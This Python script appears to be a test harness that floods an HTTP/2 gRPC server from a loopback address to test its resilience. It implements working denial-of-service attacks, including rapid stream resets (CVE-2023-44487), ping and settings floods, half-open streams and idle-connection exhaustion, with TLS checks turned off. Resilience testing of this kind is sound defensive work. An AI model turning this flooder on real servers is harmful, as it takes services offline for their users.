"""A process that floods a server with HTTP/2 from another address of this machine, without a token: `flood_worker.py HOST PORT SHAPE`.

It prints `begun` when the flood is under way, and ends with its standard input.
"""

import socket
import ssl
import struct
import sys
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from typing import Final

SOURCE: Final = "127.0.0.3"
IDLE: Final = 900
"""Connections of the idle flood."""
_PREFACE: Final = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_BATCH: Final = 200


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    """Write a frame (RFC 9113, 4.1)."""
    return struct.pack(">I", len(content))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + content


def _literal(index: int, value: bytes) -> bytes:
    """Write a field whose name stands in HPACK's static table (RFC 7541, 6.2.2)."""
    return bytes((index, len(value))) + value


def _named(name: bytes, value: bytes) -> bytes:
    return bytes((0, len(name))) + name + bytes((len(value),)) + value


_HEADERS: Final = (
    b"\x83\x87"
    + _literal(4, b"/nearfar.v1.AgentService/Step")
    + _literal(1, b"localhost")
    + _named(b"content-type", b"application/grpc")
    + _named(b"te", b"trailers")
)


def _resets(streams: Iterator[int]) -> bytes:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    ids = [next(streams) for _ in range(_BATCH)]
    return b"".join(_frame(1, 4, each, _HEADERS) + _frame(3, 0, each, struct.pack(">I", 8)) for each in ids)


def _halves(streams: Iterator[int]) -> bytes:
    """Streams that are opened and left."""
    return b"".join(_frame(1, 4, next(streams), _HEADERS) for _ in range(_BATCH))


def _calls(streams: Iterator[int]) -> bytes:
    """Calls with an empty message, all of which have to be answered."""
    ids = [next(streams) for _ in range(_BATCH)]
    return b"".join(_frame(1, 4, each, _HEADERS) + _frame(0, 1, each, bytes(5)) for each in ids)


def _pings(streams: Iterator[int]) -> bytes:
    """Pings, each of which wants an answer (CVE-2019-9512)."""
    del streams
    return _frame(6, 0, 0, bytes(8)) * _BATCH


def _settings(streams: Iterator[int]) -> bytes:
    """Settings, each of which wants an answer (CVE-2019-9515)."""
    del streams
    return _frame(4, 0, 0) * _BATCH


FLOODS: Final[dict[str, Callable[[Iterator[int]], bytes]]] = {
    "resets": _resets,
    "paced resets": _resets,
    "halves": _halves,
    "calls": _calls,
    "pings": _pings,
    "settings": _settings,
}
_PAUSES: Final = {"paced resets": _BATCH / 36_000, "calls": _BATCH / 36_000}
"""Seconds between two batches."""


def _connected(host: str, port: int) -> ssl.SSLSocket:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain = socket.create_connection((host, port), timeout=5, source_address=(SOURCE, 0))
    return context.wrap_socket(plain)


def _flood(host: str, port: int, shape: str) -> None:
    """Flood over one connection after the other."""
    while True:
        with suppress(OSError), _connected(host, port) as connection:
            connection.sendall(_PREFACE + _frame(4, 0, 0))
            streams = iter(range(1, 2**31 - 1, 2))
            while _is_open(connection):
                connection.sendall(FLOODS[shape](streams))
                time.sleep(_PAUSES.get(shape, 0.0))


def _is_open(connection: ssl.SSLSocket) -> bool:
    """Read what has come, so that nothing piles up, and say whether the other side has not closed."""
    connection.setblocking(False)
    try:
        while True:
            if not connection.recv(65536):
                return False
    except ssl.SSLWantReadError:
        return True
    finally:
        connection.settimeout(5)


def _idle(host: str, port: int) -> list[socket.socket]:
    """Open connections that say nothing."""
    kept: list[socket.socket] = []
    for _ in range(IDLE):
        with suppress(OSError):
            kept.append(socket.create_connection((host, port), timeout=1, source_address=(SOURCE, 0)))
    return kept


def main(host: str, port: int, shape: str) -> None:
    """Flood until the standard input ends."""
    kept: list[socket.socket] = []
    if shape == "idle":
        kept = _idle(host, port)
    else:
        threading.Thread(target=_flood, args=(host, port, shape), daemon=True).start()
    print("begun", flush=True)
    sys.stdin.read()
    del kept


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), sys.argv[3])
